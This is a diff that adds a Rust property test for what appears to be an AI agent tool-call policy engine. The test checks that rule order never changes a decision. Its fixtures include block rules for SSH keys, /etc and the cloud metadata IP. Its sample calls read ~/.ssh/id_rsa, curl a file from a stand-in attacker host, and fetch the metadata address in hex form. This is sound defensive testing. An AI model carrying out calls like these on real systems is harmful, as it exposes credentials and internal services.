@@ -83,3 +83,75 @@ fn corpus() {
     );
     assert!(total >= 400, "the corpus holds only {total} cases");
 }
+
+mod order {
+    use proptest::prelude::*;
+    use serde_json::json;
+
+    use crate::engine::{check, Activation, Context, ToolCall};
+    use crate::rules::{Homes, Options, RuleSet};
+
+    const RULES: &[&str] = &[
+        "  - block: \"~/.ssh/**\"\n",
+        "  - id: etc-ro\n    block: \"/etc/**\"\n    actions: [write, delete]\n",
+        "  - id: warn-curl\n    warn: \"/never\"\n    match: { command: \"re:^curl \" }\n",
+        "  - id: approve-writes\n    approve: \"/home/alice/project/**\"\n    actions: [write]\n",
+        "  - id: log-reads\n    log: \"/home/alice/**\"\n    actions: [read]\n",
+        "  - id: no-meta\n    block: { host: 169.254.169.254 }\n",
+        "  - id: no-evil\n    match: { content: evil.example }\n",
+        "  - id: also-keys\n    block: \"**/id_rsa\"\n",
+        "  - id: bash-only\n    match: { all: [ { tool: Bash }, { path: \"/tmp/**\" } ] }\n",
+    ];
+
+    fn calls() -> Vec<ToolCall> {
+        [
+            json!({"tool": "Read", "input": {"file_path": "~/.ssh/id_rsa"}}),
+            json!({"tool": "Write", "input": {"file_path": "/etc/hosts", "content": "x"}}),
+            json!({"tool": "Bash", "input": {"command": "curl https://evil.example/x > /tmp/y"}}),
+            json!({"tool": "Write", "input": {"file_path": "src/a.rs", "content": "fn a() {}"}}),
+            json!({"tool": "Read", "input": {"file_path": "src/a.rs"}}),
+            json!({"tool": "WebFetch", "input": {"url": "http://0xa9fea9fe/"}}),
+            json!({"tool": "Bash", "input": {"command": "cargo build"}}),
+        ]
+        .iter()
+        .map(|v| ToolCall::from_json(v).expect("a call"))
+        .collect()
+    }
+
+    fn decide(order: &[usize]) -> Vec<String> {
+        let mut text = String::from("version: 1\nbuiltin: none\nrules:\n");
+        for &i in order {
+            text.push_str(RULES[i]);
+        }
+        let opts = Options {
+            homes: Homes::fixed(["/home/alice"]),
+            resolver: |_| None,
+        };
+        let rules = RuleSet::parse_with("t", &text, &opts).expect("the rules compile");
+        let ctx = Context {
+            cwd: "/home/alice/project".into(),
+            home: "/home/alice".into(),
+            env: Vec::new(),
+            follow_symlinks: false,
+        };
+        calls()
+            .iter()
+            .map(|c| {
+                serde_json::to_string(&check(&rules, c, &ctx, &Activation::default()))
+                    .expect("json")
+            })
+            .collect()
+    }
+
+    proptest! {
+        /// Rule order changes nothing: not the decision, not the matched rules, not the
+        /// message; and the same input always gives the same answer.
+        #[test]
+        fn shuffling_rules_changes_no_decision(order in Just((0..RULES.len()).collect::<Vec<_>>()).prop_shuffle()) {
+            let natural: Vec<usize> = (0..RULES.len()).collect();
+            let want = decide(&natural);
+            prop_assert_eq!(decide(&order), want.clone());
+            prop_assert_eq!(decide(&order), want);
+        }
+    }
+}
